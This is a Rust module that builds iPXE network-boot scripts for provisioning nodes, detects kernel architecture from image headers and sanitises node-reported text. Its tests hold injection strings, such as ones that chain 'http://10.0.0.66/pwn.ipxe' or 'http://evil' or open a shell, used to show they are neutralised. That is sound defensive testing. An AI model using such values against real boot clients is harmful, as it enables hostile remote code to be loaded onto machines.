//! The iPXE scripts of what a node boots. What that is, `super::decision` decides; this only
//! writes it as a script, from the askama templates in `templates/ipxe/`.

use askama::Template;

use super::decision::{BootDecision, BootTarget, NO_DISCOVERY};
use super::first_stage::BootServer;
use crate::artifacts::Artifact;
use crate::types::MacAddr;

/// Seconds an iPXE client waits before it asks again after an error.
pub const RETRY_SECS: u32 = 10;

/// The discovery kernel and initramfs, imported as artifacts, and the operator's command line.
#[derive(Clone, Debug)]
pub struct Discovery {
    pub kernel: Artifact,
    pub initrd: Artifact,
    pub cmdline: String,
    /// What the kernel runs on, read from its header; `None` when the header says nothing we
    /// know, and then every node is given it.
    pub arch: Option<KernelArch>,
}

/// The CPU architecture a kernel image is built for (and a discovery image, after its kernel).
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize,
)]
pub enum KernelArch {
    #[serde(rename = "x86_64")]
    X86_64,
    #[serde(rename = "arm64")]
    Arm64,
}

/// An architecture name that is neither x86_64 (amd64) nor arm64 (aarch64).
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
#[error("unknown architecture `{0}` (x86_64 or amd64, arm64 or aarch64)")]
pub struct UnknownArch(pub String);

impl std::str::FromStr for KernelArch {
    type Err = UnknownArch;

    /// The kernel's, Rust's and Debian's names alike.
    fn from_str(s: &str) -> Result<Self, UnknownArch> {
        match s {
            "x86_64" | "amd64" | "x86-64" => Ok(KernelArch::X86_64),
            "arm64" | "aarch64" => Ok(KernelArch::Arm64),
            _ => Err(UnknownArch(s.to_string())),
        }
    }
}

impl std::fmt::Display for KernelArch {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

impl KernelArch {
    /// Every architecture the appliance builds and serves a discovery image for.
    pub const ALL: [KernelArch; 2] = [KernelArch::X86_64, KernelArch::Arm64];

    /// How many bytes of the image [`KernelArch::of_image`] needs.
    pub const HEADER_LEN: usize = 4096;

    /// Reads the architecture from the start of a kernel image: the PE header of an EFI-stub
    /// kernel (x86 bzImage, arm64 Image or arm64 EFI zboot), else the x86 boot protocol's
    /// `HdrS` or the arm64 Image magic.
    pub fn of_image(head: &[u8]) -> Option<KernelArch> {
        let le16 = |at: usize| {
            head.get(at..at + 2)
                .map(|b| u16::from_le_bytes([b[0], b[1]]))
        };
        let le32 = |at: usize| {
            head.get(at..at + 4)
                .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
        };
        if head.starts_with(b"MZ")
            && let Some(pe) = le32(0x3c)
            && head.get(pe as usize..pe as usize + 4) == Some(b"PE\0\0")
        {
            match le16(pe as usize + 4) {
                Some(0x8664) => return Some(KernelArch::X86_64),
                Some(0xaa64) => return Some(KernelArch::Arm64),
                _ => {}
            }
        }
        if head.get(0x202..0x206) == Some(b"HdrS") {
            return Some(KernelArch::X86_64);
        }
        if head.get(0x38..0x3c) == Some(b"ARM\x64") {
            return Some(KernelArch::Arm64);
        }
        None
    }

    /// iPXE's `${buildarch}` values of the iPXE builds that can boot this kernel
    /// (undionly.kpxe is an i386 build that boots x86-64 kernels).
    fn ipxe_buildarchs(self) -> &'static [&'static str] {
        match self {
            KernelArch::X86_64 => &["x86_64", "i386"],
            KernelArch::Arm64 => &["arm64"],
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            KernelArch::X86_64 => "x86_64",
            KernelArch::Arm64 => "arm64",
        }
    }
}

/// Which discovery image a node boots, by the architecture its iPXE runs (`${buildarch}`):
/// the one built for that architecture, else one whose kernel names no architecture (given to
/// every node), else none, and the node is told so.
pub fn image_for<'a>(images: &'a [Discovery], buildarch: &str) -> Option<&'a Discovery> {
    images
        .iter()
        .find(|d| {
            d.arch
                .is_some_and(|a| a.ipxe_buildarchs().contains(&buildarch))
        })
        .or_else(|| images.iter().find(|d| d.arch.is_none()))
}

/// One `${buildarch}` test of the script: the value and the image's label.
struct Choice {
    buildarch: &'static str,
    label: String,
}

/// One image's boot block.
struct Block {
    label: String,
    kernel_url: String,
    initrd_url: String,
}

#[derive(Template)]
#[template(path = "ipxe/discovery.ipxe", escape = "none")]
struct DiscoveryScript {
    mac: MacAddr,
    /// The `${buildarch}` tests, in order; empty when the only image's architecture is unknown.
    choices: Vec<Choice>,
    /// The label a node whose architecture no test matched goes to: an image of unknown
    /// architecture, or none (it is told there is no image for it).
    fallback: Option<String>,
    /// The architectures there are images for, for the message.
    have: String,
    blocks: Vec<Block>,
    cmdline: String,
    script_url: String,
    retry_secs: u32,
}

#[derive(Template)]
#[template(path = "ipxe/error.ipxe", escape = "none")]
struct ErrorScript {
    reason: String,
    retry_url: String,
    retry_secs: u32,
}

#[derive(Debug, thiserror::Error)]
pub enum BootError {
    #[error("{NO_DISCOVERY}")]
    NoDiscoveryImage,
    #[error("cannot render the iPXE script: {0}")]
    Render(#[from] askama::Error),
}

/// The kernel command line of a node: the operator's, then how to reach the appliance and,
/// when the agent will run, its one-time token.
pub fn kernel_cmdline(
    operator: &str,
    server: &BootServer,
    mac: MacAddr,
    token: Option<&str>,
) -> String {
    let mut line = operator.trim().to_string();
    if !line.is_empty() {
        line.push(' ');
    }
    line.push_str(&format!(
        "provisioner.url={} provisioner.mac={mac}",
        server.base_url()
    ));
    if let Some(t) = token {
        line.push_str(&format!(" provisioner.token={t}"));
    }
    line
}

/// The iPXE script for `mac`, given what the lifecycle decided and the discovery images there
/// are (one per architecture).
pub fn script(
    decision: &BootDecision,
    discovery: &[Discovery],
    server: &BootServer,
    mac: MacAddr,
) -> Result<String, BootError> {
    match &decision.target {
        BootTarget::Discovery => {
            discovery_script(discovery, server, mac, decision.token.as_deref())
        }
        BootTarget::Wait(reason) => Ok(error_script(reason, &server.script_url(mac))),
        BootTarget::LocalDisk => Ok(format!(
            "#!ipxe\necho Provisioner: {mac} boots from its own disk\nexit\n"
        )),
    }
}

/// The script that boots the node's own architecture's image: iPXE knows which code it runs
/// (`${buildarch}`), the appliance may not (a proxy-DHCP client's option 93 is not kept), so
/// the script asks, and branches to that image's kernel.
fn discovery_script(
    discovery: &[Discovery],
    server: &BootServer,
    mac: MacAddr,
    token: Option<&str>,
) -> Result<String, BootError> {
    let first = discovery.first().ok_or(BootError::NoDiscoveryImage)?;
    let label = |d: &Discovery| match d.arch {
        Some(a) => format!("boot_{}", a.name()),
        None => "boot".to_string(),
    };
    // Each architecture iPXE may run, with the image `image_for` gives it: the script and
    // the rule agree by construction.
    let mut choices = Vec::new();
    let mut images: Vec<&Discovery> = Vec::new();
    for buildarch in KernelArch::ALL.iter().flat_map(|a| a.ipxe_buildarchs()) {
        if let Some(d) = image_for(discovery, buildarch).filter(|d| d.arch.is_some()) {
            choices.push(Choice {
                buildarch,
                label: label(d),
            });
            if !images.iter().any(|i| std::ptr::eq(*i, d)) {
                images.push(d);
            }
        }
    }
    let fallback = discovery.iter().find(|d| d.arch.is_none());
    let have = images
        .iter()
        .filter_map(|d| d.arch.map(KernelArch::name))
        .collect::<Vec<_>>()
        .join(", ");
    images.extend(fallback);
    Ok(DiscoveryScript {
        mac,
        choices,
        fallback: fallback.map(label),
        have,
        blocks: images
            .iter()
            .map(|d| Block {
                label: label(d),
                kernel_url: d.kernel.url(server),
                initrd_url: d.initrd.url(server),
            })
            .collect(),
        cmdline: kernel_cmdline(&first.cmdline, server, mac, token),
        script_url: server.script_url(mac),
        retry_secs: RETRY_SECS,
    }
    .render()?
        + "\n")
}

/// A script that prints `reason` and tries again after a delay: an iPXE client is never left
/// at a dead end. `retry_url` may use iPXE's `${net0/mac}` when the MAC is unknown.
pub fn error_script(reason: &str, retry_url: &str) -> String {
    let script = ErrorScript {
        reason: ipxe_safe(reason),
        retry_url: retry_url.to_string(),
        retry_secs: RETRY_SECS,
    };
    // askama drops the template's final newline; iPXE wants it.
    script.render().map(|s| s + "\n").unwrap_or_else(|_| {
        // The template is plain text with three strings; rendering cannot fail in practice,
        // but the client still gets a script that retries.
        format!("#!ipxe\nsleep {RETRY_SECS}\nchain --replace --autofree {retry_url}\n")
    })
}

/// Text that iPXE prints as it is. Reasons can quote what a node reported (a DMI serial, a
/// MAC it claims), so this is an allow-list, not a deny-list: letters, digits, spaces and
/// `. , : - _ / ( ) + = @ %` stay, every other character (`;`, `&`, `|` and `$` among them,
/// which iPXE reads as command separators, conditions and settings) becomes a space. The
/// result is one line that can only ever be `echo`'s argument.
pub fn ipxe_safe(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' | 'A'..='Z' | '0'..='9' | ' ' => c,
            '.' | ',' | ':' | '-' | '_' | '/' | '(' | ')' | '+' | '=' | '@' | '%' => c,
            _ => ' ',
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::Sha256;

    const SERVER: BootServer = BootServer {
        advertise: std::net::Ipv4Addr::new(10, 99, 0, 1),
        http_port: 8080,
    };

    fn artifact(byte: u8, name: &str) -> Artifact {
        Artifact {
            sha256: Sha256([byte; 32]),
            size: 10,
            name: name.into(),
        }
    }

    #[test]
    fn discovery_script_is_exact() {
        let d = Discovery {
            kernel: artifact(0xaa, "vmlinuz"),
            initrd: artifact(0xbb, "initrd.img"),
            cmdline: "console=ttyS0 ".into(),
            arch: Some(KernelArch::X86_64),
        };
        let mac: MacAddr = "52:54:00:12:34:56".parse().unwrap();
        let decision = BootDecision {
            target: BootTarget::Discovery,
            token: Some("t0k".into()),
        };
        let got = script(&decision, &[d], &SERVER, mac).unwrap();
        let k = "aa".repeat(32);
        let i = "bb".repeat(32);
        let want = format!(
            "#!ipxe
# Provisioner: 52:54:00:12:34:56 boots the discovery image of its architecture.
iseq ${{buildarch}} x86_64 && goto boot_x86_64 || goto not_x86_64
:not_x86_64
iseq ${{buildarch}} i386 && goto boot_x86_64 || goto not_i386
:not_i386
echo Provisioner: this node runs ${{buildarch}} code and the appliance has no discovery image for it (only for x86_64): build one with provisioner image build-discovery --arch ARCH
goto failed
:boot_x86_64
echo Provisioner: 52:54:00:12:34:56 boots the discovery image
kernel http://10.99.0.1:8080/artifacts/{k}/vmlinuz initrd=initrd console=ttyS0 provisioner.url=http://10.99.0.1:8080 provisioner.mac=52:54:00:12:34:56 provisioner.token=t0k || goto failed
initrd --name initrd http://10.99.0.1:8080/artifacts/{i}/initrd.img || goto failed
boot || goto failed

:failed
echo Provisioner: booting the discovery image failed; retrying in 10 seconds
sleep 10
chain --replace --autofree http://10.99.0.1:8080/boot/52-54-00-12-34-56.ipxe
"
        );
        assert_eq!(got, want);
    }

    #[test]
    fn an_image_of_unknown_architecture_is_given_to_every_node() {
        let d = Discovery {
            kernel: artifact(0xaa, "vmlinuz"),
            initrd: artifact(0xbb, "initrd.img"),
            cmdline: String::new(),
            arch: None,
        };
        let got = discovery_script(
            std::slice::from_ref(&d),
            &SERVER,
            "52:54:00:12:34:56".parse().unwrap(),
            None,
        )
        .unwrap();
        assert!(!got.contains("buildarch"), "{got}");
        assert!(got.contains("\n:boot\necho Provisioner: 52:54:00:12:34:56 boots"));
        assert_eq!(image_for(&[d], "riscv64").map(|d| d.arch), Some(None));
    }

    fn image(arch: KernelArch, byte: u8) -> Discovery {
        Discovery {
            kernel: artifact(byte, "vmlinuz"),
            initrd: artifact(byte + 1, "initrd.img"),
            cmdline: String::new(),
            arch: Some(arch),
        }
    }

    #[test]
    fn each_node_is_given_the_image_of_its_architecture_or_told_there_is_none() {
        let x86 = image(KernelArch::X86_64, 0x10);
        let arm = image(KernelArch::Arm64, 0xa0);
        let both = [x86.clone(), arm.clone()];
        let arch_of = |images: &[Discovery], b: &str| image_for(images, b).map(|d| d.arch);
        // iPXE's ${buildarch}: undionly.kpxe is i386, ipxe.efi x86_64, ipxe-arm64.efi arm64.
        assert_eq!(arch_of(&both, "x86_64"), Some(Some(KernelArch::X86_64)));
        assert_eq!(arch_of(&both, "i386"), Some(Some(KernelArch::X86_64)));
        assert_eq!(arch_of(&both, "arm64"), Some(Some(KernelArch::Arm64)));
        assert_eq!(arch_of(&both, "riscv64"), None);
        assert_eq!(arch_of(std::slice::from_ref(&x86), "arm64"), None);
        assert_eq!(arch_of(std::slice::from_ref(&arm), "x86_64"), None);
        assert_eq!(arch_of(&[], "x86_64"), None);

        let mac: MacAddr = "52:54:00:12:34:56".parse().unwrap();
        let got = discovery_script(&both, &SERVER, mac, Some("t")).unwrap();
        let (k, i) = ("a0".repeat(32), "a1".repeat(32));
        assert!(
            got.contains(
                "iseq ${buildarch} arm64 && goto boot_arm64 || goto not_arm64\n:not_arm64\necho Provisioner: this node runs ${buildarch} code and the appliance has no discovery image for it (only for x86_64, arm64)"
            ),
            "{got}"
        );
        assert!(
            got.contains(&format!(
                ":boot_arm64\necho Provisioner: 52:54:00:12:34:56 boots the discovery image\nkernel http://10.99.0.1:8080/artifacts/{k}/vmlinuz initrd=initrd provisioner.url=http://10.99.0.1:8080 provisioner.mac=52:54:00:12:34:56 provisioner.token=t || goto failed\ninitrd --name initrd http://10.99.0.1:8080/artifacts/{i}/initrd.img || goto failed\nboot || goto failed\n"
            )),
            "{got}"
        );
        assert!(got.contains(&format!("/artifacts/{}/vmlinuz", "10".repeat(32))));
        // An arm64 node of an appliance with only the x86-64 image is told, and retries.
        let only_x86 = discovery_script(std::slice::from_ref(&x86), &SERVER, mac, None).unwrap();
        assert!(!only_x86.contains("goto boot_arm64"), "{only_x86}");
        assert!(
            only_x86.contains("no discovery image for it (only for x86_64): build one with provisioner image build-discovery --arch ARCH\ngoto failed\n"),
            "{only_x86}"
        );
        assert!(only_x86.ends_with(
            "chain --replace --autofree http://10.99.0.1:8080/boot/52-54-00-12-34-56.ipxe\n"
        ));
    }

    #[test]
    fn kernel_architecture_comes_from_the_header() {
        let mut pe = vec![0u8; 4096];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        pe[0x84..0x86].copy_from_slice(&0xaa64u16.to_le_bytes());
        assert_eq!(KernelArch::of_image(&pe), Some(KernelArch::Arm64));
        pe[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes());
        assert_eq!(KernelArch::of_image(&pe), Some(KernelArch::X86_64));
        // A PE offset past the end is no PE header, and no panic.
        pe[0x3c..0x40].copy_from_slice(&u32::MAX.to_le_bytes());
        assert_eq!(KernelArch::of_image(&pe), None);

        let mut bz = vec![0u8; 1024];
        bz[0x202..0x206].copy_from_slice(b"HdrS");
        assert_eq!(KernelArch::of_image(&bz), Some(KernelArch::X86_64));
        let mut image = vec![0u8; 64];
        image[0x38..0x3c].copy_from_slice(b"ARM\x64");
        assert_eq!(KernelArch::of_image(&image), Some(KernelArch::Arm64));
        assert_eq!(KernelArch::of_image(b"\x1f\x8b gzip"), None);
        assert_eq!(KernelArch::of_image(b""), None);
    }

    #[test]
    fn error_script_prints_and_retries_and_cannot_be_injected() {
        let s = error_script(
            "bad\nchain http://evil ${x}",
            "http://10.99.0.1:8080/boot/${net0/mac}.ipxe",
        );
        assert!(s.starts_with("#!ipxe\n"));
        assert!(
            s.contains("echo Provisioner: bad chain http://evil   x \n"),
            "{s}"
        );
        assert!(s.contains(
            "sleep 10\nchain --replace --autofree http://10.99.0.1:8080/boot/${net0/mac}.ipxe\n"
        ));
        let mac: MacAddr = "52:54:00:12:34:56".parse().unwrap();
        let discovery = BootDecision {
            target: BootTarget::Discovery,
            token: None,
        };
        assert!(matches!(
            script(&discovery, &[], &SERVER, mac),
            Err(BootError::NoDiscoveryImage)
        ));
    }

    #[test]
    fn reported_text_reaches_a_script_only_as_echoed_words() {
        for hostile in [
            "X ; chain http://10.0.0.66/pwn.ipxe ;",
            "X && chain http://10.0.0.66/pwn.ipxe",
            "X || shell",
            "X ${net0/mac} ${{x}}",
            "X \"quoted\" 'single' `tick`",
            "X \\ escape\nchain http://x\r\n#!ipxe",
            "X\u{0}\u{7f}\u{2028}é",
        ] {
            let s = error_script(hostile, "http://10.99.0.1:8080/boot/${net0/mac}.ipxe");
            let echo = s
                .lines()
                .find(|l| l.starts_with("echo Provisioner: "))
                .unwrap_or_else(|| panic!("{s}"));
            let said = &echo["echo Provisioner: ".len()..];
            assert!(
                said.chars()
                    .all(|c| c.is_ascii_alphanumeric() || " .,:-_/()+=@%".contains(c)),
                "{hostile:?} gave {said:?}"
            );
            let plain = error_script("plain", "http://10.99.0.1:8080/boot/${net0/mac}.ipxe");
            assert_eq!(
                s.lines().count(),
                plain.lines().count(),
                "one echoed line, no more: {s}"
            );
        }
        assert_eq!(
            ipxe_safe("slot dc1/r1/a01/U10 expects hgx-b200 (8 GPUs); serial `SN-1`"),
            "slot dc1/r1/a01/U10 expects hgx-b200 (8 GPUs)  serial  SN-1 "
        );
    }

    #[test]
    fn each_boot_target_has_its_script() {
        let mac: MacAddr = "52:54:00:12:34:56".parse().unwrap();
        let of = |target| {
            script(
                &BootDecision {
                    target,
                    token: None,
                },
                &[],
                &SERVER,
                mac,
            )
        };
        let local = of(BootTarget::LocalDisk).unwrap();
        assert!(local.ends_with("\nexit\n"), "{local}");
        let wait = of(BootTarget::Wait("this node is held".into())).unwrap();
        assert!(
            wait.contains("echo Provisioner: this node is held\n"),
            "{wait}"
        );
        assert!(
            wait.contains(
                "chain --replace --autofree http://10.99.0.1:8080/boot/52-54-00-12-34-56.ipxe"
            ),
            "{wait}"
        );
    }
}
